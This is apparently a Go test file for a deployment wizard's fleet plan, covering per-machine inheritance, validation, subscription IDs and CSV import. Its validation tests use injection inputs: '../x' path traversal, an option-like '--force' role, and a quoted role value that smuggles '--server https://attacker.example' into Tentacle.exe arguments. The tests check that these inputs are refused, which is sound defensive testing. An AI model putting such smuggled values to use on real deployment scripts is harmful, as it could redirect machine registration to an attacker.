package plan_test

import (
	"crypto/rand"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/tentacle-ha-wizard/wizard/web/plan"
)

func fleetPlan() plan.Plan {
	p := validPlan()
	p.Tentacle = plan.Tentacle{Instance: "Tentacle", Environments: []string{"Production"}, Roles: []string{"web"}, Policy: "Default Machine Policy"}
	p.Fleet = []plan.Machine{
		{Name: "web01"},
		{Name: "web02", Roles: []string{"web", "api"}, SubscriptionID: "poll://aaaaaaaaaaaaaaaaaaaa/"},
		{Name: "build01", OS: "Windows", Kind: "worker", WorkerPools: []string{"Windows Builders"}},
	}
	return p
}

func TestForMachineInherits(t *testing.T) {
	p := fleetPlan().Normalized()
	tests := []struct {
		i    int
		want plan.Tentacle
	}{
		{0, plan.Tentacle{OS: "linux", Instance: "Tentacle", Name: "web01", Kind: "target", Environments: []string{"Production"}, Roles: []string{"web"}, Policy: "Default Machine Policy"}},
		{1, plan.Tentacle{OS: "linux", Instance: "Tentacle", Name: "web02", Kind: "target", Environments: []string{"Production"}, Roles: []string{"web", "api"}, Policy: "Default Machine Policy", SubscriptionID: "poll://aaaaaaaaaaaaaaaaaaaa/"}},
		{2, plan.Tentacle{OS: "windows", Instance: "Tentacle", Name: "build01", Kind: "worker", WorkerPools: []string{"Windows Builders"}, Policy: "Default Machine Policy"}},
	}
	for _, tt := range tests {
		got := p.ForMachine(tt.i)
		if diff := cmp.Diff(tt.want, got.Tentacle); diff != "" {
			t.Errorf("ForMachine(%d).Tentacle (-want +got):\n%s", tt.i, diff)
		}
		if got.HasFleet() {
			t.Errorf("ForMachine(%d) still has a fleet", tt.i)
		}
	}
}

func TestFleetValidate(t *testing.T) {
	tests := []struct {
		name  string
		edit  func(p *plan.Plan)
		field string
		want  string
	}{
		{"same name ignoring case", func(p *plan.Plan) { p.Fleet[2].Name = "WEB01" }, "fleet[2].name", "Machine 1 is named web01 too"},
		{"same id", func(p *plan.Plan) { p.Fleet[0].SubscriptionID = "poll://aaaaaaaaaaaaaaaaaaaa/" }, "fleet[1].subscriptionId", "two Tentacles must never share one"},
		{"no name", func(p *plan.Plan) { p.Fleet[1].Name = "" }, "fleet[1].name", "Enter the machine name"},
		{"worker without a pool", func(p *plan.Plan) { p.Fleet[2].WorkerPools = nil }, "fleet[2].workerPools", "A worker needs at least one worker pool."},
		{"bad kind", func(p *plan.Plan) { p.Fleet[0].Kind = "server" }, "fleet[0].kind", `not "server"`},
		{"instance out of its folder", func(p *plan.Plan) { p.Fleet[0].Instance = "../x" }, "fleet[0].instance", `".."`},
		{"option-like role", func(p *plan.Plan) { p.Fleet[1].Roles = []string{"--force"} }, "fleet[1].roles[0]", "cannot start with"},
		{"bad id", func(p *plan.Plan) { p.Fleet[1].SubscriptionID = "poll://x/" }, "fleet[1].subscriptionId", "poll:// followed by 20"},
		{"line separator in a name", func(p *plan.Plan) { p.Fleet[0].Name = "web\u202801" }, "fleet[0].name", "line separator"},
	}
	if probs := fleetPlan().Validate(); probs.HasErrors() {
		t.Fatalf("fleetPlan().Validate() = %s, want no errors", probs)
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := fleetPlan()
			tt.edit(&p)
			probs := p.Validate()
			for _, pr := range probs {
				if pr.Field == tt.field && pr.Severity == plan.Error && strings.Contains(pr.Message, tt.want) {
					return
				}
			}
			t.Errorf("Validate() = %s, want an error on %s containing %q", probs, tt.field, tt.want)
		})
	}
	t.Run("too many machines", func(t *testing.T) {
		p := fleetPlan()
		p.Fleet = make([]plan.Machine, plan.MaxFleet+1)
		for i := range p.Fleet {
			p.Fleet[i].Name = fmt.Sprintf("m%d", i)
		}
		if probs := p.Validate(); len(probs) == 0 || probs[0].Field != "fleet" {
			t.Errorf("Validate() = %.300s, want the fleet refused first", probs)
		}
	})
}

func TestFleetIDs(t *testing.T) {
	p := fleetPlan()
	for i := 3; i < 50; i++ {
		p.Fleet = append(p.Fleet, plan.Machine{Name: fmt.Sprintf("web%02d", i)})
	}
	q, err := p.WithSubscriptionID(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for i, m := range q.Fleet {
		if !plan.ValidSubscriptionID(m.SubscriptionID) || seen[m.SubscriptionID] {
			t.Errorf("machine %d id %q: not a new valid id", i, m.SubscriptionID)
		}
		seen[m.SubscriptionID] = true
	}
	if q.Fleet[1].SubscriptionID != "poll://aaaaaaaaaaaaaaaaaaaa/" {
		t.Errorf("a given id changed to %s", q.Fleet[1].SubscriptionID)
	}
	if q.Tentacle.SubscriptionID != "" {
		t.Errorf("the fleet's tentacle got an id %s; it is no machine", q.Tentacle.SubscriptionID)
	}
	if len(seen) != 50 {
		t.Errorf("%d distinct ids, want 50", len(seen))
	}
}

func TestReadFleetCSV(t *testing.T) {
	in := "Name,OS,kind,environments,roles,workerPools,tenants,instance\n" +
		"web01,linux,target,Production;Staging,web;api,,,\n" +
		"\"build, 02\",windows,worker,,,Windows Builders,,Builds\n"
	got, probs := plan.ReadFleetCSV(strings.NewReader(in))
	if len(probs) != 0 {
		t.Fatalf("problems %s", probs)
	}
	want := []plan.Machine{
		{Name: "web01", OS: "linux", Kind: "target", Environments: []string{"Production", "Staging"}, Roles: []string{"web", "api"}},
		{Name: "build, 02", OS: "windows", Kind: "worker", WorkerPools: []string{"Windows Builders"}, Instance: "Builds"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ReadFleetCSV (-want +got):\n%s", diff)
	}
}

func TestReadFleetCSVRefuses(t *testing.T) {
	tests := []struct {
		name, in, field, want string
	}{
		{"empty", "", "fleet", "The CSV is empty"},
		{"unknown column", "name,colour\nweb01,red\n", "fleet", `Column 2 of the header, "colour"`},
		{"no name column", "os,kind\nlinux,target\n", "fleet", "no name column"},
		{"column twice", "name,Name\na,b\n", "fleet", "names the column name twice"},
		{"short row", "name,os,kind\nweb01,linux,target\nweb02,linux\n", "fleet[1]", "Row 3 has 2 cells; the header has 3 columns."},
		{"no machines", "name,os\n", "fleet", "no machines"},
		{"broken quotes", "name\n\"web01\n", "fleet", "cannot be read"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, probs := plan.ReadFleetCSV(strings.NewReader(tt.in))
			for _, pr := range probs {
				if pr.Field == tt.field && strings.Contains(pr.Message, tt.want) {
					return
				}
			}
			t.Errorf("ReadFleetCSV = %s, want a problem on %s containing %q", probs, tt.field, tt.want)
		})
	}
}

func TestFleetValidateFilesAndWindows(t *testing.T) {
	p := fleetPlan()
	p.Fleet = append(p.Fleet, plan.Machine{Name: "app-1"}, plan.Machine{Name: "App/1"})
	p.Fleet[2].Roles = nil
	p.Fleet[2].WorkerPools = []string{`Windows "Builders"`}
	probs := p.Validate()
	want := map[string]string{
		"fleet[4].name":           "tentacles/App-1/",
		"fleet[2].workerPools[0]": "double quote",
	}
	for field, msg := range want {
		found := false
		for _, pr := range probs {
			found = found || (pr.Field == field && strings.Contains(pr.Message, msg))
		}
		if !found {
			t.Errorf("Validate() = %s, want an error on %s containing %q", probs, field, msg)
		}
	}
}

// TestFleetRegisterAnyIsWindowsSafe: the fleet's own values reach
// register-any.ps1's Tentacle.exe even when the fleet is Linux, so a
// double quote is refused there as on a Windows Tentacle.
func TestFleetRegisterAnyIsWindowsSafe(t *testing.T) {
	p := fleetPlan()
	p.Tentacle.Roles = []string{`web x" --server https://attacker.example --role "y`}
	for _, pr := range p.Validate() {
		if pr.Field == "tentacle.roles[0]" && pr.Severity == plan.Error && strings.Contains(pr.Message, "register-any.ps1") {
			return
		}
	}
	t.Errorf("Validate() = %s, want tentacle.roles[0] refused for register-any.ps1", p.Validate())
}
